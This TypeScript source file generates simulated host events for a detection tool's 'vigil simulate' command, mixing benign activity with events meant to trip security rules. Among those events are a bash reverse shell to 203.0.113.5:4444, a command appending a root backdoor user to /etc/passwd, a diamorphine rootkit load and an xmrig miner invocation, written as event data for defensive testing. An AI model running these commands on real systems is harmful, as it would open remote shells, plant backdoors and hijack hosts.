/**
 * Event generation for `vigil simulate`: benign host activity (process execs, logins, connections, file
 * opens, in the shapes of packages/rules/EVENTS.md) and, now and then, an event a Base Rule Set rule fires
 * on (shapes taken from the rules' own firing examples).
 * @module
 */
import type { SimulatedHost } from './hosts.js';
import type { Rng } from './prng.js';

export type SimEvent = Record<string, unknown> & { event_type: string; timestamp: number };

const NO_SESSION = 4294967295;
const USERS = [
  { user: 'alice', uid: 1001 },
  { user: 'bob', uid: 1002 },
  { user: 'deploy', uid: 1010 },
] as const;
const SERVICE = { user: 'www-data', uid: 33, gid: 33, tty: '(none)', session: NO_SESSION, cwd: '/var/www/html' };

function base(rng: Rng, at: number, who: { user: string; uid: number } = rng.pick(USERS)) {
  return { timestamp: at, user: who.user, uid: who.uid, gid: who.uid, tty: 'pts/0', session: rng.int(1, 40), cwd: `/home/${who.user}`, pid: rng.int(1000, 60000), ppid: rng.int(500, 999) };
}

function exec(rng: Rng, at: number, command: string, args: string[], extra: Record<string, unknown> = {}): SimEvent {
  return { ...base(rng, at), event_type: 'audit', type: 'start', syscall: 'execve', success: true, exe: `/usr/bin/${command}`, command, args, ...extra };
}

function fileEvent(rng: Rng, at: number, filename: string, type: 'open' | 'modify', extra: Record<string, unknown> = {}): SimEvent {
  return {
    ...base(rng, at),
    event_type: 'file',
    type,
    syscall: type === 'open' ? 'openat' : 'write',
    success: true,
    exe: '/usr/bin/vim.basic',
    command: 'vim',
    args: ['vim', filename],
    filename,
    ...extra,
  };
}

const BENIGN_EXECS: ReadonlyArray<[string, string[]]> = [
  ['ls', ['ls', '-la']],
  ['ps', ['ps', 'aux']],
  ['git', ['git', 'pull', '--ff-only']],
  ['systemctl', ['systemctl', 'status', 'nginx']],
  ['df', ['df', '-h']],
  ['grep', ['grep', '-r', 'ERROR', '/var/log/app']],
  ['tail', ['tail', '-n', '200', '/var/log/syslog']],
  ['curl', ['curl', '-s', 'http://127.0.0.1:8080/healthz']],
  ['python3', ['python3', 'manage.py', 'migrate', '--check']],
  ['node', ['node', 'dist/server.js']],
];
const BENIGN_FILES = ['/etc/hosts', '/etc/resolv.conf', '/var/log/nginx/access.log', '/etc/nginx/nginx.conf', '/srv/app/config.yml', '/etc/ssl/certs/ca-certificates.crt'];

/**
 * One benign event on `host` at time `at`.
 * ```ts
 * const e = benignEvent(rng, host, Date.now());
 * ```
 */
export function benignEvent(rng: Rng, host: SimulatedHost, at: number): SimEvent {
  const r = rng.next();
  if (r < 0.5) {
    const [command, args] = rng.pick(BENIGN_EXECS);
    return exec(rng, at, command, args, { parent_command: 'bash', parent_exe: '/usr/bin/bash' });
  }
  if (r < 0.7) {
    const filename = rng.pick(BENIGN_FILES);
    return fileEvent(rng, at, filename, 'open', { exe: '/usr/bin/cat', command: 'cat', args: ['cat', filename] });
  }
  if (r < 0.9) {
    const [dst_ip, dst_port] = rng.pick([['10.0.2.15', 5432], ['10.0.3.20', 6379], ['169.254.169.254', 80], ['10.0.1.5', 443]] as const);
    return {
      ...base(rng, at, { user: 'www-data', uid: 33 }),
      tty: '(none)',
      session: NO_SESSION,
      event_type: 'connect',
      connect_type: 'outbound',
      syscall: 'connect',
      protocol: 'tcp',
      success: true,
      exe: '/usr/bin/node',
      command: 'node',
      args: ['node', 'dist/server.js'],
      src_ip: host.privateIp,
      src_port: rng.int(32768, 60999),
      dst_ip,
      dst_port,
    };
  }
  const who = rng.pick(USERS);
  return {
    ...base(rng, at, who),
    event_type: 'login',
    success: true,
    exe: '/usr/sbin/sshd',
    command: 'sshd',
    auth_method: 'publickey',
    src_ip: `10.0.0.${rng.int(2, 40)}`,
    src_port: rng.int(40000, 60000),
    dst_ip: host.privateIp,
    dst_port: 22,
  };
}

/** What a suspicious event is meant to trip, for the progress output. */
export interface SuspiciousEvent {
  rule: string;
  event: SimEvent;
}

/** Every attack kind `vigil simulate` sends, one generator each. */
export const SUSPICIOUS_KINDS: ReadonlyArray<(rng: Rng, host: SimulatedHost, at: number) => SuspiciousEvent> = [
  (rng, _h, at) => ({
    rule: 'Process: shell spawned by web server',
    event: exec(rng, at, 'sh', ['sh', '-c', 'id'], { ...SERVICE, exe: '/usr/bin/dash', parent_command: 'nginx', parent_exe: '/usr/sbin/nginx' }),
  }),
  (rng, _h, at) => ({
    rule: 'Process: reverse shell command line',
    event: exec(rng, at, 'bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], SERVICE),
  }),
  (rng, _h, at) => ({
    rule: 'User Activity: sudo by a service account',
    event: { ...base(rng, at), ...SERVICE, event_type: 'sudo', success: true, exe: '/usr/bin/sudo', command: 'sudo', src_user: 'www-data', dst_user: 'root', args: ['sudo', '-n', 'id'] },
  }),
  (rng, _h, at) => ({
    rule: 'File: /etc/passwd or /etc/group modified',
    event: fileEvent(rng, at, '/etc/passwd', 'modify', {
      user: 'root',
      uid: 0,
      exe: '/usr/bin/bash',
      command: 'bash',
      args: ['bash', '-c', 'echo "sysupd:x:0:0::/root:/bin/bash" >> /etc/passwd'],
      session: NO_SESSION,
    }),
  }),
  (rng, _h, at) => ({
    rule: 'Kernel module loaded',
    event: {
      ...base(rng, at),
      user: 'root',
      uid: 0,
      event_type: 'kernel_module',
      type: 'load',
      success: true,
      exe: '/usr/bin/kmod',
      command: 'insmod',
      module: 'diamorphine',
      args: ['insmod', '/tmp/.ICE-unix/diamorphine.ko'],
      session: NO_SESSION,
      tty: '(none)',
    },
  }),
  (rng, _h, at) => ({
    rule: 'Process: crypto miner',
    event: exec(rng, at, 'xmrig', ['./xmrig', '-o', 'pool.example:3333', '-u', '4abc'], { ...SERVICE, exe: '/tmp/.X11-unix/.rsync/xmrig' }),
  }),
  (rng, _h, at) => ({
    rule: 'File: SSH authorized_keys modified',
    event: fileEvent(rng, at, '/root/.ssh/authorized_keys', 'modify', { user: 'root', uid: 0, command: 'tee', exe: '/usr/bin/tee', session: NO_SESSION }),
  }),
];

/**
 * One event that a Base Rule Set rule fires on, and which rule.
 * ```ts
 * const { rule, event } = suspiciousEvent(rng, host, Date.now());
 * ```
 */
export function suspiciousEvent(rng: Rng, host: SimulatedHost, at: number): SuspiciousEvent {
  return rng.pick(SUSPICIOUS_KINDS)(rng, host, at);
}
